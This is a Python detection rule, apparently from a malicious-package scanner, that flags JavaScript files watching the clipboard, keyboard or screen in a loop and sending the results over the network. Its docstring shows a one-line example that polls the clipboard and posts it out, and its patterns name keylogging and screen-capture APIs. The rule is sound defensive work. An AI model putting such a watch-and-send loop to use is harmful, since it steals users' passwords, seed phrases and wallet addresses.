"""Clipboard, keyboard or screen are watched and the record leaves the machine.

What it sees
    Readers of the clipboard (`pbpaste`, `Get-Clipboard`, `clipboardy`), of the keyboard (global key listeners) or of
    the screen (screenshot packages), in a loop, in a file that also sends over the network.

Why it matters
    Wallet addresses, passwords and seed phrases pass through clipboard and keyboard.

Example
    `setInterval(() => exec("pbpaste", (e, out) => axios.post(url, { out })), 500)`

What to do
    Do not run it. If it ran, change what was typed or copied since.

False alarms
    Desktop tools with a clipboard history do not send it; command line tools copy once.

References
    ATT&CK T1115, T1056.001, T1113
"""

import re
from collections.abc import Iterator

from lazaretto.detect.jscode import in_tests, phase_of
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.javascript import JavaScriptModule

_WATCHED: tuple[tuple[str, re.Pattern[bytes]], ...] = (
    (
        "clipboard",
        re.compile(
            rb"[\"'`\s]pbpaste\b|Get-Clipboard|xclip\s+-[^\n]{0,30}-o\b|xsel\s+(?:-b|--clipboard)\s+-?-?o"
            rb"|(?:require\(|from )[\"']clipboardy[\"']"
        ),
    ),
    (
        "keyboard",
        re.compile(
            rb"node-global-key-listener|[\"']iohook[\"']|uiohook-napi|SetWindowsHookEx|GetAsyncKeyState|/dev/input/event"
        ),
    ),
    ("screen", re.compile(rb"screenshot-desktop|CopyFromScreen|[\"'`\s]screencapture\s+-|[\"']node-screenshots[\"']")),
)
_SENDS = re.compile(rb"\bfetch\s*\(|\baxios\b|\.post\s*\(|https?\.request|\brequest\s*\(|\.emit\s*\(|FormData")
_LOOP = re.compile(rb"setInterval\s*\(|while\s*\(\s*(?:true|1|!0)\s*\)|addListener\s*\(|\.on\s*\(\s*[\"']key")


def check(module: JavaScriptModule) -> Iterator[Match]:
    """One match per file that watches and sends."""
    if module.bulky:
        return
    found = {name: hit.start() for name, pattern in _WATCHED if (hit := pattern.search(module.source))}
    if not found:
        return
    sends = _SENDS.search(module.source) is not None and not module.minified
    loops = _LOOP.search(module.source) is not None
    grave = sends and loops
    start = min(found.values())
    severity = Severity.HIGH if grave else Severity.LOW
    confidence = Confidence.HIGH if grave and len(found) >= 2 else Confidence.MEDIUM
    if in_tests(module.path):
        confidence = Confidence.LOW if not grave else Confidence.MEDIUM
    yield Match(
        N_("watches {what} and sends data") if grave else N_("reads {what}"),
        line=module.line_of(start),
        params={"what": ", ".join(found)},
        excerpt=module.quote(start),
        severity=severity,
        confidence=confidence,
        phase=phase_of(module.path),
    )


RULE = Rule(
    id="js/watches-user",
    title=N_("clipboard, keyboard or screen are watched"),
    view=JavaScriptModule,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.COLLECT,
    check=check,
    doc=__doc__ or "",
    techniques=("T1115", "T1056.001", "T1113"),
    needles=(b"pbpaste", b"Clipboard", b"clipboardy", b"key-listener", b"iohook", b"screenshot"),
)
